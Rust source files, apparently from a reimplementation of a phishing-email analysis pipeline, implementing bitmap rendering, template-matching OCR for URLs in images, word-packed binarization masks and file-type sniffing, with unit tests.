        WORD_SCRATCH.with(|cell| {
            // Take the buffers out of the cell: a nested call then sees
            // empty scratch and allocates its own.
            let (mut mask, mut luma) = cell.take();
            mask.fill_from(self, threshold, &mut luma);
            let out = f(&mask);
            *cell.borrow_mut() = (mask, luma);
            out
        })
    }

    /// Nearest-neighbour resample to `w`×`h`.
    ///
    /// # Panics
    ///
    /// Panics if either target dimension is zero.
    pub fn scale_to(&self, w: usize, h: usize) -> Bitmap {
        assert!(w > 0 && h > 0, "scale target must be nonzero");
        let mut out = Bitmap::new(w, h, Rgb::WHITE);
        for y in 0..h {
            for x in 0..w {
                let sx = x * self.width / w;
                let sy = y * self.height / h;
                out.pixels[y * w + x] = self.pixels[sy * self.width + sx];
            }
        }
        out
    }

    /// Crop to the rectangle (clipped to the image).
    ///
    /// # Panics
    ///
    /// Panics if the clipped rectangle is empty.
    pub fn crop(&self, x: usize, y: usize, w: usize, h: usize) -> Bitmap {
        let w = w.min(self.width.saturating_sub(x));
        let h = h.min(self.height.saturating_sub(y));
        assert!(w > 0 && h > 0, "crop rectangle is empty");
        let mut out = Bitmap::new(w, h, Rgb::WHITE);
        for yy in 0..h {
            for xx in 0..w {
                out.pixels[yy * w + xx] = self.pixels[(y + yy) * self.width + (x + xx)];
            }
        }
        out
    }

    /// Apply the CSS `hue-rotate(degrees)` filter to every pixel — the
    /// §V-C2(d) evasion trick.
    pub fn hue_rotate(&self, degrees: f64) -> Bitmap {
        let mut out = self.clone();
        for p in &mut out.pixels {
            *p = p.hue_rotate(degrees);
        }
        out
    }

    /// Deterministically speckle `count` pixels using a simple LCG from
    /// `seed` (simulates the "injected noise" on phishing screenshots).
    pub fn add_noise(&self, seed: u64, count: usize) -> Bitmap {
        let mut out = self.clone();
        let mut state = seed | 1;
        for _ in 0..count {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            let x = (state >> 33) as usize % self.width;
            let y = (state >> 13) as usize % self.height;
            let v = (state >> 5) as u8;
            out.set(x, y, Rgb::new(v, v.wrapping_add(64), v.wrapping_add(128)));
        }
        out
    }

    /// Draw text at `(x, y)` using the built-in 5×7 font at integer `scale`.
    /// Returns the x coordinate after the last glyph.
    pub fn draw_text(&mut self, x: usize, y: usize, text: &str, scale: usize, c: Rgb) -> usize {
        crate::font::draw_text(self, x, y, text, scale, c)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fill_and_get() {
        let mut b = Bitmap::new(10, 5, Rgb::WHITE);
        b.fill_rect(2, 1, 3, 2, Rgb::BLACK);
        assert_eq!(b.get(2, 1), Rgb::BLACK);
        assert_eq!(b.get(4, 2), Rgb::BLACK);
        assert_eq!(b.get(5, 1), Rgb::WHITE);
        assert_eq!(b.get(2, 3), Rgb::WHITE);
    }

    #[test]
    fn fill_rect_clips() {
        let mut b = Bitmap::new(4, 4, Rgb::WHITE);
        b.fill_rect(2, 2, 100, 100, Rgb::BLACK);
        assert_eq!(b.get(3, 3), Rgb::BLACK);
        assert_eq!(b.get(1, 1), Rgb::WHITE);
    }

    #[test]
    fn luma_weights() {
        assert_eq!(Rgb::WHITE.luma(), 255);
        assert_eq!(Rgb::BLACK.luma(), 0);
        assert!(Rgb::new(0, 255, 0).luma() > Rgb::new(255, 0, 0).luma());
        assert!(Rgb::new(255, 0, 0).luma() > Rgb::new(0, 0, 255).luma());
    }

    #[test]
    fn hue_rotate_zero_is_near_identity() {
        let c = Rgb::new(120, 80, 200);
        let r = c.hue_rotate(0.0);
        assert!((r.r as i32 - 120).abs() <= 1);
        assert!((r.g as i32 - 80).abs() <= 1);
        assert!((r.b as i32 - 200).abs() <= 1);
    }

    #[test]
    fn hue_rotate_4deg_changes_color_but_barely_luma() {
        // The paper's trick: hue-rotate(4deg) changes pixel colours yet the
        // grayscale rendering is nearly unchanged — which is why pHash/dHash
        // survive it.
        let c = Rgb::new(180, 40, 90);
        let r = c.hue_rotate(4.0);
        assert_ne!(c, r);
        assert!((c.luma() as i32 - r.luma() as i32).abs() <= 3);
    }

    #[test]
    fn hue_rotate_preserves_gray() {
        let g = Rgb::new(128, 128, 128);
        let r = g.hue_rotate(90.0);
        for ch in [r.r, r.g, r.b] {
            assert!((ch as i32 - 128).abs() <= 2, "{r:?}");
        }
    }

    #[test]
    fn scale_preserves_blocks() {
        let mut b = Bitmap::new(2, 2, Rgb::WHITE);
        b.set(0, 0, Rgb::BLACK);
        let big = b.scale_to(4, 4);
        assert_eq!(big.get(0, 0), Rgb::BLACK);
        assert_eq!(big.get(1, 1), Rgb::BLACK);
        assert_eq!(big.get(2, 2), Rgb::WHITE);
        let back = big.scale_to(2, 2);
        assert_eq!(back, b);
    }

    #[test]
    fn crop_extracts_region() {
        let mut b = Bitmap::new(6, 6, Rgb::WHITE);
        b.set(3, 2, Rgb::BLACK);
        let c = b.crop(2, 1, 3, 3);
        assert_eq!(c.width(), 3);
        assert_eq!(c.get(1, 1), Rgb::BLACK);
    }

    #[test]
    fn noise_is_deterministic() {
        let b = Bitmap::new(20, 20, Rgb::WHITE);
        assert_eq!(b.add_noise(7, 30), b.add_noise(7, 30));
        assert_ne!(b.add_noise(7, 30), b.add_noise(8, 30));
    }

    #[test]
    fn gray_conversion_flattens_channels() {
        let mut b = Bitmap::new(2, 1, Rgb::new(200, 10, 50));
        b.set(1, 0, Rgb::new(0, 255, 0));
        let g = b.to_gray();
        for y in 0..1 {
            for x in 0..2 {
                let p = g.get(x, y);
                assert_eq!(p.r, p.g);
                assert_eq!(p.g, p.b);
            }
        }
    }

    #[test]
    #[should_panic(expected = "nonzero")]
    fn zero_dimension_panics() {
        Bitmap::new(0, 5, Rgb::WHITE);
    }

    #[test]
    #[should_panic(expected = "out of bounds")]
    fn out_of_bounds_get_panics() {
        Bitmap::new(2, 2, Rgb::WHITE).get(2, 0);
    }
}

/// Serialization: the `CBXBMP1` container (magic, dimensions, raw RGB).
impl Bitmap {
    /// Serialize to the `CBXBMP1` byte format (magic + u32 width + u32
    /// height, big-endian, then row-major RGB triples).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(15 + self.pixels.len() * 3);
        out.extend_from_slice(b"CBXBMP1");
        out.extend_from_slice(&(self.width as u32).to_be_bytes());
        out.extend_from_slice(&(self.height as u32).to_be_bytes());
        for p in &self.pixels {
            out.extend_from_slice(&[p.r, p.g, p.b]);
        }
        out
    }

    /// Parse a `CBXBMP1` byte stream.
    ///
    /// Returns `None` on bad magic, truncated data, or zero dimensions.
    pub fn from_bytes(data: &[u8]) -> Option<Bitmap> {
        let rest = data.strip_prefix(b"CBXBMP1")?;
        if rest.len() < 8 {
            return None;
        }
        let width = u32::from_be_bytes(rest[0..4].try_into().ok()?) as usize;
        let height = u32::from_be_bytes(rest[4..8].try_into().ok()?) as usize;
        if width == 0 || height == 0 {
            return None;
        }
        let body = &rest[8..];
        if body.len() < width * height * 3 {
            return None;
        }
        let mut img = Bitmap::new(width, height, Rgb::WHITE);
        for (i, px) in body.chunks_exact(3).take(width * height).enumerate() {
            img.pixels[i] = Rgb::new(px[0], px[1], px[2]);
        }
        Some(img)
    }
}

#[cfg(test)]
mod serialization_tests {
    use super::*;

    #[test]
    fn round_trip() {
        let mut b = Bitmap::new(13, 7, Rgb::WHITE);
        b.set(3, 2, Rgb::new(10, 200, 30));
        b.set(12, 6, Rgb::BLACK);
        let bytes = b.to_bytes();
        assert!(bytes.starts_with(b"CBXBMP1"));
        assert_eq!(Bitmap::from_bytes(&bytes).unwrap(), b);
    }

    #[test]
    fn magic_is_sniffable() {
        let b = Bitmap::new(4, 4, Rgb::WHITE);
        assert_eq!(crate::magic::sniff(&b.to_bytes()), crate::magic::FileKind::CbxBitmap);
    }

    #[test]
    fn content_fingerprint_tracks_content() {
        let a = Bitmap::new(8, 4, Rgb::WHITE);
        let mut b = Bitmap::new(8, 4, Rgb::WHITE);
        assert_eq!(a.content_fingerprint(), b.content_fingerprint());
        b.set(3, 1, Rgb::BLACK);
        assert_ne!(a.content_fingerprint(), b.content_fingerprint());
        // Same pixel count, different shape.
        assert_ne!(
            Bitmap::new(8, 4, Rgb::WHITE).content_fingerprint(),
            Bitmap::new(4, 8, Rgb::WHITE).content_fingerprint()
        );
    }

    #[test]
    fn ink_mask_matches_luma_threshold_and_survives_nesting() {
        let mut img = Bitmap::new(3, 2, Rgb::WHITE);
        img.set(1, 0, Rgb::BLACK);
        img.set(2, 1, Rgb::new(100, 100, 100));
        let expected: Vec<bool> = img.luma_values().iter().map(|&l| l < 128).collect();
        let got = img.with_ink_mask(128, |m| m.to_vec());
        assert_eq!(got, expected);
        // A nested call over a different image must not corrupt the outer
        // mask.
        let other = Bitmap::new(2, 2, Rgb::BLACK);
        let (outer, inner) = img.with_ink_mask(128, |m| {
            let inner = other.with_ink_mask(128, |n| n.to_vec());
            (m.to_vec(), inner)
        });
        assert_eq!(outer, expected);
        assert_eq!(inner, vec![true; 4]);
    }

    #[test]
    fn word_mask_agrees_with_bool_mask() {
        let img = Bitmap::new(70, 9, Rgb::WHITE).add_noise(31, 200);
        for threshold in [0u8, 64, 128, 255] {
            let bools = img.with_ink_mask(threshold, |m| m.to_vec());
            img.with_ink_words(threshold, |words| {
                for y in 0..img.height() {
                    for x in 0..img.width() {
                        assert_eq!(
                            words.get(x, y),
                            bools[y * img.width() + x],
                            "({x},{y}) t={threshold}"
                        );
                    }
                }
            });
        }
        // nesting the two variants must not corrupt either scratch buffer
        let other = Bitmap::new(3, 3, Rgb::BLACK);
        img.with_ink_words(128, |outer| {
            let outer_ink = outer.count_ink();
            other.with_ink_words(128, |inner| assert_eq!(inner.count_ink(), 9));
            assert_eq!(outer.count_ink(), outer_ink);
        });
    }

    #[test]
    fn rejects_bad_input() {
        assert!(Bitmap::from_bytes(b"NOPE").is_none());
        assert!(Bitmap::from_bytes(b"CBXBMP1").is_none());
        let mut truncated = Bitmap::new(10, 10, Rgb::WHITE).to_bytes();
        truncated.truncate(40);
        assert!(Bitmap::from_bytes(&truncated).is_none());
        // zero dimensions
        let mut zero = b"CBXBMP1".to_vec();
        zero.extend_from_slice(&0u32.to_be_bytes());
        zero.extend_from_slice(&5u32.to_be_bytes());
        assert!(Bitmap::from_bytes(&zero).is_none());
    }
}
