//! Optical character recognition by template matching against the built-in
//! font.
//!
//! The paper's pipeline scans "inline and attached images … for the presence
//! of URLs (using a combination of Optical Character Recognition libraries)"
//! (§IV-B). Our substitute recognizes text rendered with [`crate::font`]:
//! the image is binarized, glyph-aligned rows are located, and each cell is
//! matched against every template, accepting only exact (or near-exact)
//! matches. The closed loop render→recognize exercises the identical
//! pipeline code path.

use crate::bitmap::Bitmap;
use crate::font::{self, ADVANCE, GLYPH_H, GLYPH_W};
use crate::inkmask::InkMask;

/// Binarization threshold on luma: darker is "ink".
const INK_THRESHOLD: u8 = 128;

/// Recognize text lines in `img`, assuming the built-in font at the given
/// integer `scale`. Returns recognized lines top-to-bottom.
///
/// Recognition scans every vertical offset, so text can start anywhere; the
/// horizontal origin is found by locating the leftmost ink column of each
/// candidate line band — a word-scan over the packed mask, so a blank band
/// is rejected 64 columns at a time.
pub fn recognize_lines(img: &Bitmap, scale: usize) -> Vec<String> {
    img.with_ink_words(INK_THRESHOLD, |ink| lines_in_mask(ink, scale))
}

/// Recognize all text and return it joined with newlines.
pub fn recognize_text(img: &Bitmap, scale: usize) -> String {
    recognize_lines(img, scale).join("\n")
}

/// Line recognition over an already-binarized mask — lets scale probing
/// reuse one mask instead of re-binarizing the image per scale.
fn lines_in_mask(ink: &InkMask, scale: usize) -> Vec<String> {
    assert!(scale > 0, "scale must be nonzero");
    let glyph_h = GLYPH_H * scale;
    let mut lines = Vec::new();
    let mut y = 0usize;
    while y + glyph_h <= ink.height() {
        // A candidate band must contain ink in its first row-of-glyph region.
        if let Some(line) = recognize_band(ink, y, scale) {
            if !line.trim().is_empty() {
                lines.push(line);
                y += glyph_h; // skip past this band
                continue;
            }
        }
        y += 1;
    }
    lines
}

/// Attempt to read one text line whose glyph tops sit at row `y`.
fn recognize_band(ink: &InkMask, y: usize, scale: usize) -> Option<String> {
    let width = ink.width();
    let glyph_h = GLYPH_H * scale;
    let left = ink.leftmost_ink_in_band(y, y + glyph_h)?;
    let mut out = String::new();
    let mut x = left;
    let mut trailing_spaces = 0usize;
    while x + GLYPH_W * scale <= width {
        match match_glyph(ink, x, y, scale) {
            Some(c) => {
                if c == ' ' {
                    trailing_spaces += 1;
                    if trailing_spaces > 2 {
                        break; // a long blank run ends the line content
                    }
                } else {
                    trailing_spaces = 0;
                }
                out.push(c);
            }
            None => break,
        }
        x += ADVANCE * scale;
    }
    let trimmed = out.trim_end().to_string();
    if trimmed.is_empty() {
        None
    } else {
        Some(trimmed)
    }
}

/// Match the glyph cell at `(x, y)`; returns the recognized character or
/// `None` if nothing matches exactly.
#[allow(clippy::needless_range_loop)] // gx/gy address both the pattern and pixels
fn match_glyph(ink: &InkMask, x: usize, y: usize, scale: usize) -> Option<char> {
    for c in font::CHARSET.chars() {
        let pat = font::glyph_pattern(c).expect("charset glyph");
        let mut ok = true;
        'cell: for gy in 0..GLYPH_H {
            for gx in 0..GLYPH_W {
                // sample the centre pixel of the scaled cell
                let px = x + gx * scale + scale / 2;
                let py = y + gy * scale + scale / 2;
                if ink.get(px, py) != pat[gy][gx] {
                    ok = false;
                    break 'cell;
                }
            }
        }
        if ok {
            return Some(c);
        }
    }
    None
}

/// Convenience: recognize text at scales 1–3, returning the first non-empty
/// result (the pipeline does not know the attacker's render scale). The
/// image is binarized once and the mask is shared across scale probes.
pub fn recognize_any_scale(img: &Bitmap) -> String {
    img.with_ink_words(INK_THRESHOLD, |ink| {
        for scale in 1..=3 {
            let lines = lines_in_mask(ink, scale);
            if !lines.is_empty() {
                return lines.join("\n");
            }
        }
        String::new()
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bitmap::Rgb;

    fn render(text: &str, scale: usize) -> Bitmap {
        let w = text.len() * ADVANCE * scale + 8;
        let mut img = Bitmap::new(w.max(16), GLYPH_H * scale + 8, Rgb::WHITE);
        img.draw_text(3, 3, text, scale, Rgb::BLACK);
        img
    }

    #[test]
    fn round_trip_uppercase_url() {
        let text = "HTTPS://EVIL-SITE.EXAMPLE/DHFYWFH";
        let img = render(text, 1);
        assert_eq!(recognize_text(&img, 1), text);
    }

    #[test]
    fn lowercase_folds_to_uppercase() {
        let img = render("https://evil.example/x", 1);
        assert_eq!(recognize_text(&img, 1), "HTTPS://EVIL.EXAMPLE/X");
    }

    #[test]
    fn scaled_text_recognized() {
        let text = "SCAN ME 2024";
        for scale in [2usize, 3] {
            let img = render(text, scale);
            assert_eq!(recognize_text(&img, scale), text, "scale {scale}");
        }
    }

    #[test]
    fn any_scale_probe_finds_scale() {
        let img = render("TOKEN=ABC123", 2);
        assert_eq!(recognize_any_scale(&img), "TOKEN=ABC123");
    }

    #[test]
    fn multiple_lines_recognized_in_order() {
        let mut img = Bitmap::new(260, 40, Rgb::WHITE);
        img.draw_text(2, 2, "LINE ONE", 1, Rgb::BLACK);
        img.draw_text(2, 20, "HTTPS://X.EXAMPLE/", 1, Rgb::BLACK);
        let lines = recognize_lines(&img, 1);
        assert_eq!(lines, vec!["LINE ONE", "HTTPS://X.EXAMPLE/"]);
    }

    #[test]
    fn blank_image_yields_nothing() {
        let img = Bitmap::new(50, 20, Rgb::WHITE);
        assert!(recognize_lines(&img, 1).is_empty());
        assert_eq!(recognize_any_scale(&img), "");
    }

    #[test]
    fn noise_only_image_yields_no_false_lines() {
        let img = Bitmap::new(60, 30, Rgb::WHITE).add_noise(99, 12);
        // sparse random specks should not assemble into glyphs
        let lines = recognize_lines(&img, 1);
        assert!(
            lines.iter().all(|l| l.chars().count() <= 2),
            "phantom text: {lines:?}"
        );
    }

    #[test]
    fn colored_text_on_tinted_background_still_reads() {
        let mut img = Bitmap::new(200, 16, Rgb::new(230, 240, 255));
        img.draw_text(2, 2, "PAY NOW", 1, Rgb::new(40, 0, 60));
        assert_eq!(recognize_text(&img, 1), "PAY NOW");
    }
}
