#![warn(missing_docs)]

//! File-format substrates the parsing phase dispatches on (paper §IV-B).
//!
//! CrawlerBox scans *every* part of a reported message. Depending on its
//! content type that means: rendering images and running OCR + QR detection
//! over them, extracting embedded and text-based URLs from PDFs (plus
//! screenshotting each page), unpacking ZIP archives, and sniffing
//! `application/octet-stream` blobs by magic numbers. This crate provides
//! all of those formats from scratch:
//!
//! * [`bitmap`] — RGB raster images with a built-in 5×7 bitmap font,
//!   so text (and URLs) can be *drawn into* images…
//! * [`ocr`] — …and recovered back out by template matching, closing the
//!   loop that real OCR libraries close in the paper's pipeline.
//! * [`inkmask`] — word-packed binarization masks; the chunked-`u64`
//!   kernels OCR and QR detection scan 64 pixels at a time.
//! * [`qrimage`] — rendering [`cb_qr::QrMatrix`] symbols into bitmaps and
//!   detecting/sampling them back (upright, uniform-scale detector).
//! * [`zip`] — a store-only ZIP reader/writer with real local-file headers,
//!   central directory and CRC-32.
//! * [`pdf`] — PDF-lite: pages with text operators and `/Annots` URI link
//!   annotations, serializer + parser + page rasterizer.
//! * [`magic`] — file-signature sniffing, including HTA detection (the
//!   paper's five ZIP→HTA download chains).
//! * [`fingerprint`] — 128-bit content hashes keying the pipeline's
//!   artifact-decode memoization.

pub mod bitmap;
pub mod fingerprint;
pub mod font;
pub mod inkmask;
pub mod magic;
pub mod ocr;
pub mod pdf;
pub mod qrimage;
pub mod zip;

pub use bitmap::{Bitmap, Rgb};
pub use inkmask::InkMask;
pub use magic::FileKind;
pub use pdf::PdfDocument;
pub use zip::{ZipArchive, ZipEntry};
