//! Word-packed binary ink masks.
//!
//! Binarization (`luma < threshold`) feeds every image-analysis kernel in
//! the pipeline — OCR line search, QR finder-pattern scans, mask diffing.
//! The original representation was `Vec<bool>`, one byte per pixel, walked
//! a pixel at a time. [`InkMask`] packs each row into `u64` words
//! (LSB-first: bit `x % 64` of word `x / 64` is pixel `x`), so kernels
//! move 64 pixels per load: leftmost-ink via `trailing_zeros`, run
//! boundaries via word scans, population via `count_ones`, and
//! thresholding itself packs 8 pixels per step with a SWAR byte compare.
//!
//! Rows are padded to a whole number of words and the padding bits are
//! kept zero as an invariant, so whole-word reductions (`count_ink`,
//! [`InkMask::hamming`]) need no edge masking.

use crate::bitmap::Bitmap;

/// A width×height binary mask with word-packed rows.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct InkMask {
    width: usize,
    height: usize,
    words_per_row: usize,
    words: Vec<u64>,
}

/// Pack 8 luma bytes (little-endian in `w`) into 8 mask bits: bit `i` is
/// set iff byte `i` is strictly below `threshold`.
///
/// Exact for every (byte, threshold) pair: each byte is widened into its
/// own 16-bit lane with a guard bit at position 8, so the lane-wise
/// subtraction `(0x100 + b) - t` can never borrow into the neighbouring
/// lane; bit 8 of the result is then precisely `b >= t`.
#[inline]
fn pack_below_threshold(w: u64, threshold: u8) -> u8 {
    const LANE_LO: u64 = 0x0001_0001_0001_0001;
    const EVEN_BYTES: u64 = 0x00FF_00FF_00FF_00FF;
    let guard = LANE_LO << 8;
    let t = LANE_LO.wrapping_mul(threshold as u64);
    // ge bit (lane bit 8) clear ⇔ byte < threshold
    let ge_even = ((w & EVEN_BYTES) | guard).wrapping_sub(t);
    let ge_odd = (((w >> 8) & EVEN_BYTES) | guard).wrapping_sub(t);
    let lt_even = (!ge_even >> 8) & LANE_LO; // bits at 0, 16, 32, 48
    let lt_odd = (!ge_odd >> 8) & LANE_LO;
    // compress lane bits {0,16,32,48} onto byte bits {0,2,4,6}
    let even = (lt_even | (lt_even >> 14) | (lt_even >> 28) | (lt_even >> 42)) & 0x55;
    let odd = (lt_odd | (lt_odd >> 14) | (lt_odd >> 28) | (lt_odd >> 42)) & 0x55;
    (even | (odd << 1)) as u8
}

impl InkMask {
    /// An empty 0×0 mask; fill with [`InkMask::fill_from`].
    pub const fn new() -> InkMask {
        InkMask {
            width: 0,
            height: 0,
            words_per_row: 0,
            words: Vec::new(),
        }
    }

    /// Mask width in pixels.
    pub fn width(&self) -> usize {
        self.width
    }

    /// Mask height in pixels.
    pub fn height(&self) -> usize {
        self.height
    }

    /// Words per packed row (`width.div_ceil(64)`).
    pub fn words_per_row(&self) -> usize {
        self.words_per_row
    }

    /// The packed words of row `y`.
    ///
    /// # Panics
    ///
    /// Panics if `y` is out of bounds.
    pub fn row_words(&self, y: usize) -> &[u64] {
        assert!(y < self.height, "row out of bounds");
        &self.words[y * self.words_per_row..(y + 1) * self.words_per_row]
    }

    /// Bit at `(x, y)`.
    ///
    /// # Panics
    ///
    /// Panics if out of bounds.
    #[inline]
    pub fn get(&self, x: usize, y: usize) -> bool {
        assert!(x < self.width && y < self.height, "pixel out of bounds");
        let word = self.words[y * self.words_per_row + x / 64];
        (word >> (x % 64)) & 1 != 0
    }

    /// Rebinarize this mask from `img` (`luma < threshold`), reusing both
    /// this mask's word buffer and the caller's `luma_scratch` across
    /// calls. Two passes: exact Rec. 601 luma per pixel into the byte
    /// scratch, then an 8-pixels-per-step SWAR threshold pack.
    pub fn fill_from(&mut self, img: &Bitmap, threshold: u8, luma_scratch: &mut Vec<u8>) {
        let (w, h) = (img.width(), img.height());
        self.width = w;
        self.height = h;
        self.words_per_row = w.div_ceil(64);
        self.words.clear();
        self.words.resize(h * self.words_per_row, 0);

        luma_scratch.clear();
        luma_scratch.extend(img.pixels().iter().map(|p| p.luma()));

        for y in 0..h {
            let row = &luma_scratch[y * w..(y + 1) * w];
            let out = &mut self.words[y * self.words_per_row..(y + 1) * self.words_per_row];
            // assemble each destination word fully, then store once
            let mut blocks = row.chunks_exact(64);
            let mut wi = 0usize;
            for block in blocks.by_ref() {
                let mut word = 0u64;
                for (k, lanes) in block.chunks_exact(8).enumerate() {
                    let lanes = u64::from_le_bytes(lanes.try_into().expect("8-byte chunk"));
                    word |= (pack_below_threshold(lanes, threshold) as u64) << (k * 8);
                }
                out[wi] = word;
                wi += 1;
            }
            let rem = blocks.remainder();
            if !rem.is_empty() {
                let mut word = 0u64;
                for (k, &l) in rem.iter().enumerate() {
                    word |= ((l < threshold) as u64) << k;
                }
                out[wi] = word;
            }
        }
    }

    /// Number of set bits. Whole-word popcount; exact because padding bits
    /// are zero by construction.
    pub fn count_ink(&self) -> usize {
        self.words.iter().map(|w| w.count_ones() as usize).sum()
    }

    /// Number of differing bits between two same-shape masks — the
    /// word-chunked form of a bool-slice XOR walk (64 pixels per
    /// `count_ones`).
    ///
    /// # Panics
    ///
    /// Panics if the masks have different dimensions.
    pub fn hamming(&self, other: &InkMask) -> usize {
        assert!(
            self.width == other.width && self.height == other.height,
            "mask shape mismatch"
        );
        self.words
            .iter()
            .zip(&other.words)
            .map(|(a, b)| (a ^ b).count_ones() as usize)
            .sum()
    }

    /// First `x >= from` in row `y` whose bit differs from `value`, or
    /// `width` if the run extends to the row end. This is the run-length
    /// primitive: the QR finder scan walks transitions instead of testing
    /// every pixel.
    ///
    /// # Panics
    ///
    /// Panics if `y` is out of bounds or `from > width`.
    pub fn next_transition(&self, y: usize, from: usize, value: bool) -> usize {
        assert!(y < self.height && from <= self.width, "scan out of bounds");
        if from == self.width {
            return self.width;
        }
        let row = self.row_words(y);
        let mut wi = from / 64;
        // set bits mark positions that differ from `value`
        let mut diff = if value { !row[wi] } else { row[wi] };
        diff &= !0u64 << (from % 64);
        loop {
            if diff != 0 {
                let x = wi * 64 + diff.trailing_zeros() as usize;
                return x.min(self.width);
            }
            wi += 1;
            if wi == self.words_per_row {
                return self.width;
            }
            diff = if value { !row[wi] } else { row[wi] };
        }
    }

    /// Leftmost set bit in the horizontal band of rows `y0..y1` (clamped
    /// to the mask), or `None` if the band is blank. OR-reduces the band
    /// one word-column at a time, so a blank left margin costs one load
    /// per row per 64 columns.
    pub fn leftmost_ink_in_band(&self, y0: usize, y1: usize) -> Option<usize> {
        let y1 = y1.min(self.height);
        if y0 >= y1 {
            return None;
        }
        for wi in 0..self.words_per_row {
            let mut acc = 0u64;
            for y in y0..y1 {
                acc |= self.words[y * self.words_per_row + wi];
            }
            if acc != 0 {
                return Some(wi * 64 + acc.trailing_zeros() as usize);
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bitmap::Rgb;

    struct Lcg(u64);

    impl Lcg {
        fn next(&mut self) -> u64 {
            self.0 = self
                .0
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            self.0 >> 11
        }
    }

    #[test]
    fn swar_pack_is_exact_for_every_value_and_threshold() {
        // 256 thresholds × 256 byte values, each value probed in every lane.
        for t in 0..=255u8 {
            for v in 0..=255u8 {
                for lane in 0..8 {
                    let w = (v as u64) << (lane * 8);
                    let got = pack_below_threshold(w, t);
                    let mut expect = 0u8;
                    for i in 0..8 {
                        let b = ((w >> (i * 8)) & 0xFF) as u8;
                        if b < t {
                            expect |= 1 << i;
                        }
                    }
                    assert_eq!(got, expect, "v={v} t={t} lane={lane}");
                }
            }
        }
        // and random full words, where lanes interact if borrows leak
        let mut rng = Lcg(9);
        for _ in 0..2000 {
            let w = rng.next() ^ (rng.next() << 32);
            let t = (rng.next() & 0xFF) as u8;
            let mut expect = 0u8;
            for i in 0..8 {
                if (((w >> (i * 8)) & 0xFF) as u8) < t {
                    expect |= 1 << i;
                }
            }
            assert_eq!(pack_below_threshold(w, t), expect, "w={w:#x} t={t}");
        }
    }

    fn random_bitmap(rng: &mut Lcg, w: usize, h: usize) -> Bitmap {
        let mut img = Bitmap::new(w, h, Rgb::WHITE);
        for y in 0..h {
            for x in 0..w {
                let v = rng.next();
                img.set(
                    x,
                    y,
                    Rgb::new(v as u8, (v >> 8) as u8, (v >> 16) as u8),
                );
            }
        }
        img
    }

    #[test]
    fn mask_matches_bool_reference_across_shapes_and_thresholds() {
        let mut rng = Lcg(41);
        let mut mask = InkMask::new();
        let mut scratch = Vec::new();
        // widths straddling word boundaries: 1, 63, 64, 65, 127, 128, 130
        for (w, h) in [(1, 3), (63, 2), (64, 2), (65, 2), (127, 1), (128, 4), (130, 3)] {
            for t in [0u8, 1, 77, 128, 200, 255] {
                let img = random_bitmap(&mut rng, w, h);
                mask.fill_from(&img, t, &mut scratch);
                let reference: Vec<bool> =
                    img.pixels().iter().map(|p| p.luma() < t).collect();
                assert_eq!(mask.width(), w);
                assert_eq!(mask.height(), h);
                for y in 0..h {
                    for x in 0..w {
                        assert_eq!(
                            mask.get(x, y),
                            reference[y * w + x],
                            "({x},{y}) w={w} t={t}"
                        );
                    }
                }
                assert_eq!(
                    mask.count_ink(),
                    reference.iter().filter(|&&b| b).count(),
                    "padding bits must stay zero (w={w} t={t})"
                );
            }
        }
    }

    #[test]
    fn refill_shrinks_and_regrows_cleanly() {
        let mut rng = Lcg(5);
        let mut mask = InkMask::new();
        let mut scratch = Vec::new();
        let big = random_bitmap(&mut rng, 130, 4);
        let small = random_bitmap(&mut rng, 9, 2);
        mask.fill_from(&big, 128, &mut scratch);
        mask.fill_from(&small, 128, &mut scratch);
        assert_eq!(mask.width(), 9);
        let reference: Vec<bool> = small.pixels().iter().map(|p| p.luma() < 128).collect();
        assert_eq!(mask.count_ink(), reference.iter().filter(|&&b| b).count());
        // stale words from the larger fill must not leak into scans
        assert_eq!(mask.row_words(1).len(), 1);
    }

    #[test]
    fn next_transition_matches_naive_scan() {
        let mut rng = Lcg(23);
        let mut mask = InkMask::new();
        let mut scratch = Vec::new();
        for (w, h) in [(67, 3), (128, 2), (200, 2)] {
            let img = random_bitmap(&mut rng, w, h);
            mask.fill_from(&img, 128, &mut scratch);
            for y in 0..h {
                for from in [0usize, 1, 63, 64, 65, w - 1, w] {
                    for value in [false, true] {
                        let naive = (from..w)
                            .find(|&x| mask.get(x, y) != value)
                            .unwrap_or(w);
                        assert_eq!(
                            mask.next_transition(y, from, value),
                            naive,
                            "y={y} from={from} value={value} w={w}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn leftmost_ink_matches_naive_band_scan() {
        let mut rng = Lcg(71);
        let mut mask = InkMask::new();
        let mut scratch = Vec::new();
        let img = random_bitmap(&mut rng, 150, 12);
        mask.fill_from(&img, 60, &mut scratch);
        for (y0, y1) in [(0usize, 7usize), (3, 10), (5, 5), (8, 40)] {
            let mut naive = None;
            'outer: for x in 0..mask.width() {
                for y in y0..y1.min(mask.height()) {
                    if mask.get(x, y) {
                        naive = Some(x);
                        break 'outer;
                    }
                }
            }
            assert_eq!(mask.leftmost_ink_in_band(y0, y1), naive, "band {y0}..{y1}");
        }
        // blank band
        let blank = Bitmap::new(100, 3, Rgb::WHITE);
        mask.fill_from(&blank, 128, &mut scratch);
        assert_eq!(mask.leftmost_ink_in_band(0, 3), None);
    }

    #[test]
    fn hamming_matches_bool_xor_walk() {
        let mut rng = Lcg(13);
        let mut a = InkMask::new();
        let mut b = InkMask::new();
        let mut scratch = Vec::new();
        let img_a = random_bitmap(&mut rng, 97, 5);
        let img_b = random_bitmap(&mut rng, 97, 5);
        a.fill_from(&img_a, 128, &mut scratch);
        b.fill_from(&img_b, 128, &mut scratch);
        let naive: usize = (0..5)
            .flat_map(|y| (0..97).map(move |x| (x, y)))
            .filter(|&(x, y)| a.get(x, y) != b.get(x, y))
            .count();
        assert_eq!(a.hamming(&b), naive);
        assert_eq!(a.hamming(&a), 0);
    }
}
