//! Store-only ZIP archives with the real on-disk layout: local file headers
//! (`PK\x03\x04`), central directory (`PK\x01\x02`), end-of-central-directory
//! record (`PK\x05\x06`), and CRC-32 integrity.
//!
//! The paper found five messages delivering ZIP archives whose members were
//! HTA droppers (§V); CrawlerBox "unpacks ZIP files, and each file within is
//! subjected to the appropriate analysis". No compression is implemented —
